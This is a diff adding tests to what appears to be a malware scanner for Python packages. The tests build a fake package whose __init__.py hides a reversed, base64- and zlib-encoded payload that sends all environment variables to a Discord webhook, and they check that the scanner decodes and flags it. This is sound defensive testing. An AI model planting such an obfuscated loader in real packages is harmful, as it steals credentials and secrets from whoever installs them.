@@ -332,3 +332,28 @@ def test_code_kept_in_a_data_file_and_executed_at_import_is_scanned() -> None:
                                         "setup.py": "from setuptools import setup\n"
                                                     "exec(open('fastyaml/VERSION.txt').read())\nsetup()\n"})
     assert verdict(version)[0] == "clean"
+
+
+_BACKWARDS_PAYLOAD = base64.b64encode(zlib.compress(
+    b"import os, requests\nrequests.post('https://discord.com/api/webhooks/1/abc', data=os.environ.copy())\n"))[::-1]
+
+
+def test_payload_stored_backwards_is_decoded() -> None:
+    """The obfuscator lambda ``_ = lambda __: zlib.decompress(b64decode(__[::-1]))``: the literal is the
+    encoded payload reversed. It was only obfuscation (high); decoded, it is an environment dump to a webhook."""
+    init = ("_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
+            f"exec((_)({_BACKWARDS_PAYLOAD!r}))\n")
+    setup = "from setuptools import setup\nsetup(name='helperlib', version='0.1', packages=['helperlib'])\n"
+    data = sdist("helperlib", "0.1", {"setup.py": setup, "helperlib/__init__.py": init})
+    result, findings = verdict(data)
+    assert result == "malicious"
+    assert "package.exfiltration:critical" in findings and "package.hidden-code:critical" in findings
+    methods = [s.detail.get("method") for s in facts_of(data).signals if s.kind == "obf.decoded-payload"]
+    assert "reversed+base64+zlib" in methods
+
+
+def test_reversed_decoding_needs_a_reversal_in_the_file() -> None:
+    """Without ``[::-1]`` in the file the same literal is not read backwards (no guessing on every literal)."""
+    init = f"BLOB = {_BACKWARDS_PAYLOAD!r}\n"
+    data = sdist("helperlib", "0.1", {"helperlib/__init__.py": init})
+    assert not [s for s in facts_of(data).signals if s.kind == "obf.decoded-payload"]
